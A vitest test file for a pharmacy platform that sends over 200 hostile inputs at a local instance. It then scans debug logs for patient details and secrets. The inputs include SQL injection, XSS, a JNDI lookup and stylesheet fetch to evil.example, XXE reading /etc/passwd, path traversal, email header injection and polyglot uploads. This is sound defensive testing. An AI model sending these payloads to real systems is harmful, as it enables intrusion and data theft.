import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, type LocalPlatform, startLocalPlatform } from '../../sandbox/inProcess.js';
import { createPool } from '../../src/eventstore/postgres/database.js';
import { consultationSteps, HAIR_LOSS } from '../support/consultationSteps.js';
import { FIXTURE_PATIENT_PHI, logCapture, phiFoundIn } from '../support/logCapture.js';
import { apiClient, eventually, type Harness, newRxWith, tinyPng } from '../support/platformHarness.js';
import { insurance, prescriptionSteps, waitForStatus } from '../support/prescriptionSteps.js';

/**
 * The logs a running platform writes, all of them: the HTTP server's pino lines, the platform's own
 * lines and, because this file runs its own embedded PostgreSQL with LOG_LEVEL=debug, the database
 * server's log. First ≥ 200 hostile inputs (never a 5xx), then a whole US order and a whole UK
 * consultation; then the logs are searched for the patients' names, birth dates, e-mails, phones,
 * MRNs, addresses and every token and password the run handed out.
 */
const logs = logCapture();
let dataDir: string;
let local: LocalPlatform;
let harness: Harness;
const secrets = new Set<string>();
const UK_PATIENT = { lastName: 'Quillfeather', email: `amelia.quillfeather.${Date.now()}@example.co.uk` };
const UK_PHI = [
  'Quillfeather',
  UK_PATIENT.email,
  '7 Orchard Row',
  'BA1 2LX',
  '1988-02-14',
  'Park View Surgery',
];
const INSURANCE_PHI = [insurance.memberId, 'EVG1001'];

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'pharmacy-log-scan-'));
  local = await startLocalPlatform({
    databaseUrl: '',
    env: { LOG_LEVEL: 'debug' },
    database: { dataDir: join(dataDir, 'postgres'), embeddedPort: await freePort() },
    logStream: logs.stream,
  });
  const owner = createPool(local.composition.platform.db.ownerConnectionString, { poolSize: 3 });
  harness = {
    url: local.url,
    composition: local.composition,
    http: local.composition.http,
    standIns: local.standIns,
    passwords: local.passwords,
    db: {
      pool: owner,
      connectionString: local.composition.platform.db.ownerConnectionString,
      drop: () => owner.end(),
    },
    close: async () => {
      await owner.end();
      await local.close();
    },
  };
  secrets.add(local.composition.intakeApiKey);
  secrets.add('admin-password-for-local-runs');
  for (const password of Object.values(local.passwords)) secrets.add(password);
}, 180_000);
afterAll(async () => {
  await harness?.close();
  await rm(dataDir, { recursive: true, force: true });
});

/** Signs in and remembers the session's secrets, so the scan looks for them too; returns the bearer token. */
const signedIn = async (email: string, password: string): Promise<string> => {
  const session = await apiClient(harness.url).signIn(email, password);
  secrets.add(session.token);
  secrets.add(session.csrfToken);
  return session.token;
};

const NUL = '\u0000';
/** Strings an attacker tries in every field: control characters, injections, markup, sizes, lookalikes. */
const HOSTILE_STRINGS = [
  NUL,
  `Oka${NUL}for`,
  '\u0001\u0002\u0003',
  '\u001b[31mred\u001b[0m',
  'Adaeze\u202Erofako',
  '\uFFFF',
  '\uD800',
  '\u0085next line',
  '%00',
  '%',
  '_',
  "'; DROP TABLE orders; --",
  '" OR 1=1 --',
  '<script>alert(document.cookie)</script>',
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  '<img src=x onerror=alert(1)>',
  // Template and lookup injections, spelled out so no linter mistakes them for our own templates.
  ['{{7*7}}', '$', '{7*7}'].join(''),
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '../../../../etc/passwd',
  'x'.repeat(120_000),
  '😀'.repeat(3_000),
  'e\u0301\u0301\u0301',
  'adaeze.okafor@example.org, attacker@evil.example',
  'adaeze.okafor@example.org\r\nBcc: attacker@evil.example',
  'Adaeze Okafor <adaeze.okafor@example.org>',
  '__proto__',
  'constructor',
  '0001-01-01',
  '1e309',
  '-1',
];

/** Percent-encoded; a lone surrogate, which encodeURIComponent refuses, as the bytes of one. */
const encoded = (text: string) => {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
};

type Attempt = { what: string; status: number | string };
const attempts: Attempt[] = [];

const send = async (what: string, path: string, init: RequestInit) => {
  try {
    const response = await fetch(`${harness.url}${path}`, { redirect: 'manual', ...init });
    await response.arrayBuffer();
    attempts.push({ what, status: response.status });
  } catch (error) {
    attempts.push({ what, status: `network error: ${(error as Error).message}` });
  }
};

const json = (headers: Record<string, string>, body: unknown): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify(body),
});

describe('hostile input', () => {
  it('answers at least 200 hostile inputs across intake, JSON bodies, uploads, queries and paths without one 5xx', async () => {
    const steps = prescriptionSteps(harness);
    await steps.api.signIn('ops@pharmacy.example.org', harness.passwords.ops!);
    const asOps = {
      authorization: `Bearer ${await signedIn('ops@pharmacy.example.org', harness.passwords.ops!)}`,
    };
    const asAdmin = {
      authorization: `Bearer ${await signedIn('admin@pharmacy.example.org', 'admin-password-for-local-runs')}`,
    };

    const orderId = await steps.validatedOrder(`hostile-${Date.now()}`);
    const enrollmentToken = await steps.startEnrollment(orderId);
    secrets.add(enrollmentToken);
    const uk = await consultationSteps(harness);
    const consultation = await uk.start(HAIR_LOSS, UK_PATIENT);
    secrets.add(consultation.token);
    const intakeKey = { 'x-api-key': harness.composition.intakeApiKey };

    // JSON bodies and queries: every hostile string in every field.
    for (const [index, hostile] of HOSTILE_STRINGS.entries()) {
      const tag = `#${index}`;
      await send(
        `login email ${tag}`,
        '/api/auth/login',
        json({}, { email: hostile, password: 'x'.repeat(12) }),
      );
      await send(
        `login password ${tag}`,
        '/api/auth/login',
        json({}, { email: `h${index}@pharmacy.example.org`, password: hostile }),
      );
      await send(
        `consultation start ${tag}`,
        '/api/consultations',
        json(
          {},
          {
            productId: HAIR_LOSS,
            patient: {
              firstName: hostile,
              lastName: 'Okafor',
              email: hostile.includes('@') ? hostile : 'a@b.example',
              address: { line1: hostile, town: 'Bath', postcode: 'BA1 2LX' },
            },
            consentToInformGp: true,
          },
        ),
      );
      await send(`consultation answers ${tag}`, `/api/consultations/${consultation.id}/answers/about-you`, {
        ...json(
          { 'x-consultation-token': consultation.token },
          { answers: { [hostile.slice(0, 60) || 'k']: hostile } },
        ),
        method: 'PUT',
      });
      await send(
        `cancel reason ${tag}`,
        `/api/orders/${orderId}/corrections`,
        json(asOps, { corrections: { patient: { lastName: hostile } }, reason: hostile }),
      );
      await send(
        `enrollment e-mail ${tag}`,
        `/api/orders/${orderId}/enrollment`,
        json(asOps, { email: hostile }),
      );
      await send(
        `staff account ${tag}`,
        '/api/admin/staff',
        json(asAdmin, { email: hostile, displayName: hostile, roles: ['ops'] }),
      );
      await send(`new patient link ${tag}`, '/api/patient-links', json({}, { email: hostile }));
      await send(
        `stock note ${tag}`,
        `/api/pharmacy/stock/${HAIR_LOSS}/receipts`,
        json(asOps, { quantity: 1, note: hostile }),
      );
      const query = encoded(hostile.slice(0, 2_000));
      await send(`?q= ${tag}`, `/api/orders?q=${query}`, { headers: asOps });
      await send(`?status= ${tag}`, `/api/orders?status=${query}&page=${query}`, { headers: asOps });
      await send(`audit ?from= ${tag}`, `/api/audit/export?from=${query}&orderId=${query}`, {
        headers: asAdmin,
      });
      await send(`order path ${tag}`, `/api/orders/${query}`, { headers: asOps });
      await send(`consultation path ${tag}`, `/api/consultations/${query}`, {
        headers: { 'x-consultation-token': consultation.token },
      });
      await send(`catalogue path ${tag}`, `/api/catalogue/${query}`, {});
      await send(`staff path ${tag}`, `/api/admin/staff/${query}/sessions`, { headers: asAdmin });
    }

    // Intake: XML attacks and malformed messages.
    const valid = await newRxWith(`hostile-intake-${Date.now()}`);
    const xmlVariants: [string, string | Buffer, string?][] = [
      [
        'XXE',
        `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>${valid.replace(/^<\?xml[^>]*>/, '')}`,
      ],
      [
        'billion laughs',
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><Message>&b;</Message>',
      ],
      ['raw NUL', valid.replace('Okafor', `Oka${NUL}for`)],
      ['&#0;', valid.replace('Okafor', 'Oka&#0;for')],
      ['&#1;', valid.replace('Okafor', 'Oka&#1;for')],
      ['500 KB MessageID', await newRxWith('M'.repeat(500_000))],
      ['20 KB name', valid.replace('Okafor', 'O'.repeat(20_000))],
      ['not XML', 'this is not xml at all'],
      ['JSON as XML', JSON.stringify({ Message: { Header: {} } })],
      ['empty', ''],
      ['text/plain', valid, 'text/plain'],
      ['text/html', valid, 'text/html'],
      ['BOM', `\uFEFF${valid}`],
      ['CDATA script', valid.replace('</Sig>', '</Sig><Note><![CDATA[<script>alert(1)</script>]]></Note>')],
      ['deep nesting', `<Message>${'<a>'.repeat(5_000)}${'</a>'.repeat(5_000)}</Message>`],
      [
        '__proto__ element',
        valid.replace('<Header>', '<Header><__proto__><polluted>1</polluted></__proto__>'),
      ],
      ['same MessageID, other body', valid.replace('Okafor', 'Okafore')],
      [
        'invalid UTF-8',
        Buffer.concat([
          Buffer.from(valid.slice(0, 200)),
          Buffer.from([0xff, 0xfe, 0xfd]),
          Buffer.from(valid.slice(200)),
        ]),
      ],
      ['bidi name', valid.replace('Okafor', 'Oka\u202Efor')],
      [
        'injected e-mail',
        valid.replace('adaeze.okafor@example.org', 'adaeze.okafor@example.org, attacker@evil.example'),
      ],
      ['DOB year 1', valid.replace('1979-03-14', '0001-01-01')],
      ['2 MB body', `<Message>${'x'.repeat(2 * 1024 * 1024)}</Message>`],
      ['two roots', '<Message></Message><Message></Message>'],
      [
        'stylesheet PI',
        `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${valid.replace(/^<\?xml[^>]*>/, '')}`,
      ],
      ['no key', valid],
    ];
    for (const [what, body, type] of xmlVariants) {
      await send(`intake ${what}`, '/api/intake', {
        method: 'POST',
        headers: { 'content-type': type ?? 'application/xml', ...(what === 'no key' ? {} : intakeKey) },
        body,
      });
    }

    // Uploads: files that are not what they claim, or are also something a browser runs.
    const files: [string, Buffer, string][] = [
      [
        'PDF/HTML polyglot',
        Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF'),
        'application/pdf',
      ],
      [
        'scripted PDF',
        Buffer.from('%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF'),
        'application/pdf',
      ],
      ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>'), 'image/png'],
      ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/png'],
      ['PNG with markup tail', Buffer.concat([tinyPng(), Buffer.from('<svg onload=alert(1)>')]), 'image/png'],
      ['empty', Buffer.alloc(0), 'image/png'],
      ['11 MB', Buffer.alloc(11 * 1024 * 1024, 1), 'image/jpeg'],
      ['text', Buffer.from('Member ID: W123456789'), 'application/octet-stream'],
      ['JSON', Buffer.from('{"a":1}'), 'application/json'],
    ];
    for (const [what, body, type] of files) {
      await send(`card upload ${what}`, '/api/patient/enrollment/cards/front', {
        method: 'PUT',
        headers: { 'content-type': type, 'x-enrollment-token': enrollmentToken },
        body,
      });
      await send(
        `card side path ${what}`,
        `/api/patient/enrollment/cards/${encodeURIComponent(`${NUL}front`)}`,
        {
          method: 'PUT',
          headers: { 'content-type': type, 'x-enrollment-token': enrollmentToken },
          body,
        },
      );
      await send(`ID upload ${what}`, `/api/consultations/${consultation.id}/id-document?type=passport`, {
        method: 'PUT',
        headers: { 'content-type': type, 'x-consultation-token': consultation.token },
        body,
      });
    }

    const failures = attempts.filter((a) => typeof a.status !== 'number' || a.status >= 500);
    expect(attempts.length).toBeGreaterThanOrEqual(200);
    expect(failures).toEqual([]);
  }, 300_000);
});

describe('a whole US order and a whole UK consultation', () => {
  it('runs end to end with debug logging on', async () => {
    const steps = prescriptionSteps(harness);
    await steps.api.signIn('ops@pharmacy.example.org', harness.passwords.ops!);
    const orderId = await steps.validatedOrder(`log-flow-${Date.now()}`);
    const token = await steps.startEnrollment(orderId);
    secrets.add(token);
    await steps.enroll(token);
    await steps.selectBestPharmacy(orderId);
    await steps.pay(orderId);
    await waitForStatus(steps.api, orderId, 'shipped');
    const shipped = (await steps.api.get(`/api/orders/${orderId}`)).body;
    await harness.standIns.shippo.advanceTracking(shipped.shipment.trackingNumber, 'DELIVERED');
    await waitForStatus(steps.api, orderId, 'completed');
    await eventually(
      async () =>
        harness.standIns.mailbox.messages().some((m) => m.subject === 'Your order has been delivered'),
      'the delivered e-mail',
    );
    for (const mail of harness.standIns.mailbox.messages())
      for (const match of (mail.text ?? '').matchAll(/#token=([^\s]+)|\/enroll\/([A-Za-z0-9_-]{43})/g))
        secrets.add((match[1] ?? match[2])!);

    const uk = await consultationSteps(harness);
    const session = await uk.paidConsultation(HAIR_LOSS, { kind: 'one_off' }, UK_PATIENT);
    secrets.add(session.token);
    await uk.expectStatus(session, 'in_clinical_review');
    await uk.approve(session, HAIR_LOSS);
    await uk.dispatch(session);
    await uk.scan(session, 'delivered');
    expect(await uk.statusOf(session)).toBe('delivered');
    await harness.composition.platform.drain();
  }, 180_000);
});

describe('the logs', () => {
  it('hold PostgreSQL’s own lines as well as the platform’s', () => {
    const messages = logs.records().map((record) => record.msg);
    expect(messages.some((msg) => msg.startsWith('postgres: '))).toBe(true);
    expect(messages.some((msg) => msg.startsWith('process '))).toBe(true);
    expect(logs.records().some((record) => record.vendor && record.operation)).toBe(true);
  });

  it('carry no patient’s name, birth date, e-mail, phone, MRN or address, and no token or password', () => {
    const phi = [...FIXTURE_PATIENT_PHI, ...UK_PHI, ...INSURANCE_PHI];
    expect(phiFoundIn(logs.lines, phi)).toEqual([]);
    const tokens = [...secrets].filter((secret) => secret.length >= 12);
    expect(tokens.length).toBeGreaterThan(8);
    expect(phiFoundIn(logs.lines, tokens)).toEqual([]);
  });
});
